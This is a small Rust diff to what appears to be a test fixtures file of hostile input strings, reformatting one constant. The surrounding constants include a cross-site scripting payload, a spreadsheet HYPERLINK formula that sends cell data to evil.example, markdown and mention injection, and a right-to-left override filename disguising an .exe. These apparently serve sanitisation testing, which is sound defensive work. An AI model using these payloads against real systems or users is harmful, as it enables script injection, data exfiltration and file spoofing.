@@ -14,7 +14,8 @@ pub(crate) const SCRIPT: &str = "<script>alert('owned')</script><img src=x onerr
 pub(crate) const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
 pub(crate) const PIPES: &str = "a | b `code` || **bold** [link](http://evil.example) @everyone #12";
 pub(crate) const TURNED: &str = "invoice\u{202e}gpj.exe\u{200b}\u{feff} שלום عربى";
-pub(crate) const BREAKS: &str = "first line\nsecond line\r\n| not | a | row |\n\u{1b}[31mred\u{7}\0";
+pub(crate) const BREAKS: &str =
+    "first line\nsecond line\r\n| not | a | row |\n\u{1b}[31mred\u{7}\0";
 pub(crate) const EMOJI: &str = "release 🚀 日本語 ✅ ❌ → ≤ Ünïcödé";
 
 /// A resource address without spaces, of 300 characters.
